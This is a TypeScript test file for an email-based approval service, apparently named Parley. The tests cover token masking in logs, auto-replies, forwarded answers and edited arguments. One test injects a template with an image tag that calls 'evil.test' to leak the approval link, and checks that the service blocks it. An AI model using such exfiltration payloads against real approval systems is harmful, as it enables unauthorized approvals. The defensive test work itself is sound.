import type { Approval } from "@parley/contract";
import { handOver, mailChannel, openMailServer, readTaken, replyTo } from "@parley/channels/testing";
import { databases } from "@parley/db/testing";
import { sql } from "kysely";
import { afterEach, describe, expect, test } from "vitest";
import { addMember } from "../../testing/add-member.ts";
import { openTestApp } from "../../testing/open-test-app.ts";
import { createJobHandlers } from "../../worker.ts";

const open_: AsyncDisposable[] = [];
afterEach(async () => {
  for (const one of open_.splice(0).toReversed()) await one[Symbol.asyncDispose]();
});
const later = <T extends AsyncDisposable>(one: T): T => {
  open_.push(one);
  return one;
};

const patience = { timeout: 60_000, interval: 50 };

describe.each(databases)("what a mail may decide on $name", ({ open }) => {
  /** Ana, who may approve, and a channel of mail with a real SMTP server. */
  const openApp = async () => {
    const app = later(await openTestApp({ open, environment: { PARLEY_EGRESS_ALLOW: "127.0.0.1/32" } }));
    const smtp = later(await openMailServer());
    await addMember(app, { id: "ana", name: "Ana", role: "reviewer" });
    const given = mailChannel(smtp);
    const made = await app.ask<{ id: string; inbound_url: string }>("POST", "/v5/channels", given);
    expect(made.status).toBe(201);
    const asker = await app.createKey(["approve-request", "read"]);
    const work = () => app.services.jobs.runDue({ handlers: createJobHandlers(app.services) });
    let answers = 0;
    return {
      ...app,
      smtp,
      work,
      get: async (id: string) => (await app.ask<Approval>("GET", `/v5/approvals/${id}`)).body,
      request: async (body: object = {}) =>
        (
          await app.askAs<Approval>(asker, "POST", "/v5/approvals", {
            kind: "function_call",
            name: "refund",
            args: { order: "A-7", eur: 10 },
            plan: { steps: [{ who: { channel: "email:ana@example.com" } }] },
            ...body,
          })
        ).body,
      /** The mail with this number, once it is there. */
      async mail(index: number) {
        await expect.poll(async () => (await work(), smtp.mails.length), patience).toBeGreaterThan(index);
        const taken = smtp.mails[index];
        if (taken === undefined) throw new Error(`there is no mail ${index}`);
        return { taken, ...(await readTaken(taken)) };
      },
      /** Has Ana answer one of the mails, or somebody to whom she passed it on. */
      async answer(taken: Parameters<typeof replyTo>[0], text: string, from?: string) {
        answers += 1;
        const messageId = `<answer-${answers}@example.com>`;
        const { raw } = await replyTo(taken, { text, messageId, ...(from !== undefined && { from }) });
        const handed = { inboundUrl: made.body.inbound_url, now: app.services.clock(), id: `m${answers}` };
        expect((await app.app.fetch(handOver(raw, handed))).status).toBe(200);
        await work();
      },
    };
  };

  test("the links by which people decide are not in the log of deliveries", async () => {
    const app = await openApp();
    const { id } = await app.request();
    const { text } = await app.mail(0);
    const [, token = ""] = /\/decide\/([\w-]+)/u.exec(text ?? "") ?? [];
    expect(token.length).toBeGreaterThan(20);
    const log = () => app.ask<object[]>("GET", `/v5/approvals/${id}/deliveries`);
    await expect
      .poll(async () => (await app.work(), JSON.stringify((await log()).body)), patience)
      .toContain("/decide/•••");
    expect(JSON.stringify((await log()).body)).not.toContain(token);
  });

  test("of a megabyte a mail holds a part: a yes to it decides nothing, a no counts", async () => {
    const app = await openApp();
    const { id } = await app.request({ args: { note: "a megabyte of it ".repeat(62_000) } });
    const { taken, text, html } = await app.mail(0);
    for (const body of [text, html]) {
      expect(body).toContain("a megabyte of it");
      expect(body?.length).toBeLessThan(200_000);
    }
    await app.answer(taken, "Yes");
    expect(await app.get(id)).toMatchObject({ outcome: { status: "pending" } });
    await app.answer(taken, "No");
    expect(await app.get(id)).toMatchObject({ outcome: { status: "denied", by: [{ id: "ana" }] } });
  });

  test("who answers what was passed on to them decides nothing, is on record, and is told so once", async () => {
    const app = await openApp();
    const { id } = await app.request();
    const { taken } = await app.mail(0);
    await app.answer(taken, "Yes", "Bob <bob@example.com>");
    const back = await app.mail(1);
    expect(back.taken.recipients).toEqual(["bob@example.com"]);
    expect(back.text).toMatch(/Nothing was decided[^]*asked of somebody else/u);
    await app.answer(taken, "Yes!", "Bob <bob@example.com>");
    expect(await app.get(id)).toMatchObject({ outcome: { status: "pending" } });
    type Delivery = { attempts: { act: string; error: string | null }[] };
    const [delivery] = (await app.ask<Delivery[]>("GET", `/v5/approvals/${id}/deliveries`)).body;
    expect(delivery?.attempts).toMatchObject([
      { act: "notify", error: null },
      { act: "receive", error: expect.stringContaining("bob@example.com answered this") },
    ]);
    expect(app.smtp.mails).toHaveLength(2);
    await app.answer(taken, "Yes");
    expect(await app.get(id)).toMatchObject({ outcome: { status: "approved" } });
  });

  test("who is away, and has a program answer every mail, is told once of the same words, and no more than thrice a day", async () => {
    const app = await openApp();
    const { id } = await app.request();
    const { taken } = await app.mail(0);
    for (let time = 0; time < 3; time += 1) await app.answer(taken, "I am away until Monday.");
    expect(app.smtp.mails).toHaveLength(2);
    expect((await app.mail(1)).text).toContain("Nothing was decided");
    for (const day of ["Tuesday", "Wednesday", "Thursday", "Friday"])
      await app.answer(taken, `I am away until ${day}.`);
    expect(app.smtp.mails).toHaveLength(4);
    app.clock.now += 24 * 3_600_000;
    await app.answer(taken, "I am away until Monday.");
    expect(app.smtp.mails).toHaveLength(4);
    await app.answer(taken, "I am away until Sunday.");
    expect(app.smtp.mails).toHaveLength(5);
    await app.answer(taken, "Yes");
    expect(await app.get(id)).toMatchObject({ outcome: { status: "approved" } });
  });

  test("a yes is to the arguments that the mail showed; changed ones are shown in another", async () => {
    const app = await openApp();
    const { id } = await app.request({
      editable: true,
      plan: { steps: [{ who: { all: [{ channel: "email:ana@example.com" }, { anyone: true }] } }] },
    });
    const asked = await app.mail(0);
    const { args_hash: shown } = await app.get(id);
    const edited = await app.ask("POST", `/v5/approvals/${id}/decide`, {
      decision: "approve",
      args_hash: shown,
      args: { order: "A-7", eur: 10_000 },
    });
    expect(edited.status).toBe(200);
    const changed = await app.mail(1);
    expect(changed.text).toContain("10000");
    await app.answer(asked.taken, "Yes");
    expect((await app.get(id)).outcome.status).toBe("pending");
    await app.answer(changed.taken, "Yes");
    expect((await app.get(id)).outcome).toMatchObject({ status: "approved" });
  });

  test("whose yes an edit took back gets one mail of it, that of the change", async () => {
    const app = await openApp();
    const { id, args_hash } = await app.request({
      editable: true,
      plan: { steps: [{ who: { all: [{ person: "ana@example.com" }, { anyone: true }] } }] },
    });
    const asked = await app.mail(0);
    await app.answer(asked.taken, "Yes");
    expect(await app.get(id)).toMatchObject({ outcome: { status: "pending" }, approvals: [{ id: "ana" }] });
    const edit = { args_hash, args: { order: "A-7", eur: 10_000 } };
    expect((await app.ask("POST", `/v5/approvals/${id}/edit`, edit)).status).toBe(200);
    const changed = await app.mail(1);
    expect(changed.taken.recipients).toEqual(["ana@example.com"]);
    expect(changed.text).toContain("10000");
    type Happened = { type: string; data: { reason?: string; to?: { id: string }[] } }[];
    const { body: happened } = await app.ask<Happened>("GET", `/v5/approvals/${id}/events`);
    expect(happened.filter(({ data }) => data.reason === "edited")).toMatchObject([
      { type: "noticed", data: { to: [{ id: "ana" }] } },
    ]);
    expect((await app.ask<object[]>("GET", `/v5/approvals/${id}/deliveries`)).body).toHaveLength(1);
    await app.work();
    expect(app.smtp.mails).toHaveLength(2);
    await app.answer(changed.taken, "Yes");
    expect(await app.get(id)).toMatchObject({ approvals: [{ id: "ana" }] });
  });

  test("a template of the request's gets nobody's own link, and a yes to it approves nothing", async () => {
    const app = await openApp();
    const ask = async (call: string) => {
      const asked = await app.app.fetch(
        new Request("http://parley.test/humanlayer/v1/function_calls", {
          method: "POST",
          headers: { authorization: `Bearer ${app.apiKey}`, "content-type": "application/json" },
          body: JSON.stringify({
            run_id: "run-1",
            call_id: call,
            spec: {
              fn: "refund",
              kwargs: { eur: 10 },
              channel: {
                email: {
                  address: "ana@example.com",
                  template: `<p>Lunch?</p><img src="https://evil.test/?{{ urls.base_url }}">`,
                },
              },
            },
          }),
        }),
      );
      expect(asked.status).toBe(200);
    };
    const status = async (call: string) => {
      const { rows } = await sql<{
        status: string;
      }>`select status from approvals where call_id = ${call}`.execute(app.services.database.executor);
      return rows[0]?.status;
    };
    await ask("call-1");
    const mail = await app.mail(0);
    expect(mail.html).toContain("approvals&#x2f;");
    expect(mail.html).not.toContain("decide");
    await app.answer(mail.taken, "Yes");
    expect(await status("call-1")).toBe("pending");
    const back = await app.mail(1);
    expect(back.text).toContain("Nothing was decided");
    expect(back.text).toContain("/decide/");
    expect(back.html).not.toContain("Lunch");
    await app.answer(mail.taken, "No");
    expect(await status("call-1")).toBe("denied");
  });
});
